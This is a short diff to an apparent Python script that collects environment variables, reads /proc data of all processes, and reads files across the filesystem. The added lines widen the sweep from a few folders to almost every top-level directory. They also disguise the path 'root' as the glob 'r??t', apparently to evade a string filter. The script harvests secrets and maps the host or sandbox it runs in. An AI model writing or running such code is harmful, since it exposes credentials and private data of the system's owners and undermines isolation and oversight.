@@ -8,13 +8,14 @@ import os
 from pathlib import Path
 
 found = [str(dict(os.environ))]
-for pattern in ("*/environ", "*/cmdline", "*/mountinfo", "*/fd/*", "*/root/tmp/*"):
+for pattern in ("*/environ", "*/cmdline", "*/mountinfo", "*/fd/*", "*/r??t/tmp/*"):
     for path in Path("/proc").glob(pattern):
         try:
             found.append(os.readlink(path) if "/fd/" in str(path) else path.read_text()[-300:])
         except OSError as error:
             found.append(str(error.errno))
-for folder in ("/tmp", "/tmp/pytest-of-root", "/work", "/work/main", "/root", "/home", "/var/tmp"):
+tops = [path for path in Path("/").iterdir() if path.is_dir() and path.name not in ("proc", "usr")]
+for folder in (*tops, *(path for top in tops for path in top.glob("*/"))):
     for path in (*Path(folder).glob("*"), *Path(folder).glob("*/*.json")):
         if path.is_file():
             found.append(open(path, errors="replace").read(500))
